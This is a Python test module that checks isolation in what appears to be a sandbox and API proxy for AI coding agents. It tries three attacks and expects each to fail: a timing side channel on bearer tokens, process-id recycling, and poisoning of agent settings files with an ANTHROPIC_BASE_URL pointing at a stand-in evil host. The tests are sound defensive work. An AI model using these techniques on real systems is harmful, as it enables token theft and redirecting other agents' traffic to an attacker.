"""Ways to be taken for somebody else that have no place to begin here (C 8, 16, 18): each is tried all the same."""
import contextlib
import random
import socket
import statistics
import subprocess
import sys
import threading
import time


def token_timing(world):
    """8: how long a refusal takes says nothing of how much of a token was right. Tokens are looked up by their hash; this measures it, beside wrong tokens
    of two kinds that have nothing right, and beside a server that does compare letter by letter."""
    token = world.session()["token"]
    kinds = {"near": token[:-1] + ("a" if token[-1] != "a" else "b"), "far": token[:3] + "x" * (len(token) - 3), "far too": token[:3] + "y" * (len(token) - 3)}

    def time_one(make, value):
        request = b"GET /v1/models HTTP/1.1\r\nhost: x\r\nauthorization: Bearer " + value.encode() + b"\r\nconnection: close\r\n\r\n"
        with make() as s:
            begun = time.perf_counter_ns()
            s.sendall(request)
            answer = s.recv(4096)
            took = time.perf_counter_ns() - begun
        assert answer[9:12] in (b"401", b"403"), answer[:80]
        return took

    def measure(make, count):
        seen = {name: [] for name in kinds}
        for _ in range(count):
            for name in random.sample(sorted(kinds), len(kinds)):
                seen[name].append(time_one(make, kinds[name]))
        medians = {name: statistics.median(times) for name, times in seen.items()}
        noise = abs(medians["far"] - medians["far too"])
        return abs(medians["near"] - medians["far"]) > 5 * noise + 0.03 * medians["far"], medians

    def to_proxy():
        s = socket.socket(socket.AF_UNIX)
        s.connect(f"{world.work}/sockets/llm.sock")
        return s

    careless = socket.create_server(("127.0.0.1", 0))

    def compare_letters():
        with contextlib.suppress(OSError):
            while True:
                with careless.accept()[0] as c:
                    given = c.recv(4096).split(b"Bearer ")[1].split(b"\r\n")[0].decode()
                    for mine, theirs in zip(token, given):
                        if mine != theirs:
                            break
                        end = time.perf_counter_ns() + 5000
                        while time.perf_counter_ns() < end:
                            pass
                    c.sendall(b"HTTP/1.1 401 No\r\n\r\n")
    threading.Thread(target=compare_letters, daemon=True).start()
    differs, medians = measure(lambda: socket.create_connection(careless.getsockname()), 200)
    world.board("08 oracle: a comparison letter by letter shows", differs, str(medians))
    careless.close()
    differs, medians = measure(to_proxy, 1000)
    world.board("08 a token that is right but for its last letter is refused as fast as any other", not differs, str(medians))
    world.board.note("08 medians of 1,000 refusals, µs: " + ", ".join(f"{name} {ns / 1000:.1f}" for name, ns in medians.items()))


RECYCLE = """
import os, socket, sys

def asks(token):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(sys.argv[1])
        s.sendall(b"GET /v1/models HTTP/1.1\\r\\nhost: x\\r\\n" + (b"authorization: Bearer " + token.encode() + b"\\r\\n" if token else b"") + b"connection: close\\r\\n\\r\\n")
        return s.recv(64).split()[1].decode()

def in_child(token):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(w, asks(token).encode())
        os._exit(0)
    os.close(w)
    said = os.read(r, 16).decode()
    os.waitpid(pid, 0)
    return pid, said

first = in_child(sys.argv[2])
for _ in range(50):
    with open("/proc/sys/kernel/ns_last_pid", "w") as f:
        f.write(str(first[0] - 1))
    second = in_child("")
    if second[0] == first[0]:
        break
print(first[0] == second[0], first[1], second[1])
"""


def recycled_process_id(world):
    """16: a process that has the id of one that was known is not known for it."""
    token = world.session()["token"]
    done = subprocess.run(["unshare", "--pid", "--fork", "--mount-proc", sys.executable, "-c", RECYCLE, f"{world.work}/sockets/llm.sock", token], capture_output=True, text=True, timeout=60)
    if done.returncode:
        world.board.cannot_be_proven("16 a recycled process id", "no process namespace of one's own here: " + done.stderr.strip()[-200:])
        return
    recycled, first, second = done.stdout.split()
    world.board("16 oracle: the id was recycled, and its first owner was served", recycled == "True" and first == "200", done.stdout)
    world.board("16 the next owner of a process id is nobody", second == "401", done.stdout)


POISON = """
import os, sys
places = [os.path.expanduser("~/.claude/settings.json"), os.path.expanduser("~/.codex/config.toml"), os.path.expanduser("~/.bashrc"), "/workspace/.claude/settings.json",
          "/workspace/.env", "/tmp/settings", "/dev/shm/settings", "/etc/hosts", "/etc/profile", "/llm-sock/settings", "/usr/local/bin/claude"]
for path in places if sys.argv[1] == "poison" else []:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write("ANTHROPIC_BASE_URL=http://evil.invalid POISONED\\n")
    except OSError:
        pass
found = []
for path in places:
    try:
        if "POISONED" in open(path).read():
            found.append(path)
    except OSError:
        pass
sys.path.insert(0, "/attacks")
from kit import is_answered
print(found, "answered" if is_answered() else "unanswered", os.environ.get("ANTHROPIC_BASE_URL"), flush=True)
if sys.argv[1] == "poison":
    __import__("time").sleep(60)
"""


def poisoned_settings(world):
    """18: whatever an agent writes into settings, hosts and variables, it writes for itself: its neighbour, and itself started again, find nothing of it outside the workspace."""
    evil, good = world.session("--own-socket"), world.session("--own-socket")
    poison = subprocess.Popen([world.docker, "run", "--rm", *world.sandbox("poison", ["--user=1000:1000", "-e", "ANTHROPIC_BASE_URL=http://evil.invalid"], own=evil), world.image,
                               "python3", "-u", "-c", POISON, "poison"], stdout=subprocess.PIPE, text=True)
    own = poison.stdout.readline()
    done = world.run("run", "--rm", *world.sandbox("beside-poison", ["--user=1000:1000"], own=good), world.image, "python3", "-c", POISON, "look", check=False)
    world.run("kill", f"{world.name}-poison", check=False)
    poison.wait()
    world.board("18 oracle: the poisoner finds what it wrote", "settings.json" in own and "/tmp/settings" in own and "evil.invalid" in own, own)
    world.board("18 the poisoner could not write what is the system's", not any(path in own for path in ("/etc/", "/llm-sock", "/usr/")), own)
    world.board("18 a neighbour finds nothing of it, and is answered", done.stdout.startswith("[] answered http://127.0.0.1:8080"), done.stdout + done.stderr[-300:])


def run(world):
    token_timing(world)
    recycled_process_id(world)
    poisoned_settings(world)
